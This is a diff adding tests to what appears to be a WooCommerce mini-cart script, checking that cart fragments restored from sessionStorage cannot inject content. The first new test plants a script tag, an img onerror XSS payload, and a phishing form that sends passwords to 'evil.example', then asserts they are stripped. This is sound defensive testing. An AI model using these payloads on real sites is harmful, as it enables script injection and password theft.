@@ -224,6 +224,50 @@ describe('refresh triggers', () => {
   });
 });
 
+describe('stored fragments are trusted only as far as the shop answered', () => {
+  it('swaps only known keys from storage, never scripts, warns once and loads the rest from the shop', async () => {
+    const warn = vi.spyOn(console, 'warn').mockImplementation(() => {});
+    serverCart([[318, 1]]);
+    storedFromServer();
+    const planted = {
+      ...fragments(state),
+      'div.widget_shopping_cart_content': fragments(state)['div.widget_shopping_cart_content']!.replace('</ul>', '</ul><script id="planted">window.planted = 1</script><img id="planted-img" src="x" onerror="window.planted = 2">'),
+      '#login-box': '<form id="phish" action="https://evil.example/"><input name="password"></form>',
+      html: '<html><body><form id="phish-page"></form></body></html>',
+    };
+    sessionStorage.setItem(FRAGMENT_NAME, JSON.stringify(planted));
+    const page = await pageBody('shop.html');
+    cartPage();
+    await mountPage(`<div id="login-box"><a href="/my-account/">Log in</a></div>${page}`, only('mini-cart', 'add-to-cart'));
+    await vi.waitFor(() => expect(refreshes()).toHaveLength(1));
+    await vi.waitFor(() => expect(cartStore.getState().status).toBe('ready'));
+    expect(document.querySelector('#login-box a')?.getAttribute('href')).toBe('/my-account/');
+    expect(document.getElementById('phish')).toBeNull();
+    expect(document.getElementById('phish-page')).toBeNull();
+    expect(document.querySelector('#planted, script#planted')).toBeNull();
+    expect(content().querySelectorAll('.woocommerce-mini-cart-item')).toHaveLength(1);
+    const ours = warn.mock.calls.map((c) => String(c[0])).filter((t) => t.includes(FRAGMENT_NAME));
+    expect(ours).toHaveLength(1);
+    expect(ours[0]).toContain('#login-box');
+    // The shop's answer used the known keys only: after it, the storage holds the shop's fragments again.
+    expect(Object.keys(JSON.parse(sessionStorage.getItem(FRAGMENT_NAME)!))).toEqual(Object.keys(fragments(state)));
+  });
+
+  it('a fragment whose swap throws does not stop the other keys, nor throw into the trigger of another script', async () => {
+    vi.spyOn(console, 'warn').mockImplementation(() => {});
+    await shop();
+    const box = content();
+    Object.defineProperty(box, 'replaceWith', { value: () => { throw new DOMException('refused', 'HierarchyRequestError'); } });
+    serverCart([[320, 2]]);
+    const uncaught = vi.fn();
+    window.addEventListener('error', uncaught);
+    onTestFinished(() => window.removeEventListener('error', uncaught));
+    expect(() => document.body.dispatchEvent(new CustomEvent('added_to_cart', { bubbles: true, detail: [fragments(state), cartHash(state)] }))).not.toThrow();
+    expect(uncaught).not.toHaveBeenCalled();
+    expect(count()).toBe('2');
+  });
+});
+
 describe('remove from the mini-cart', () => {
   it('removes through the queue, fires removed_from_cart, swaps, announces, and hides the emptied widget', async () => {
     serverCart([[318, 1], [320, 2]]);
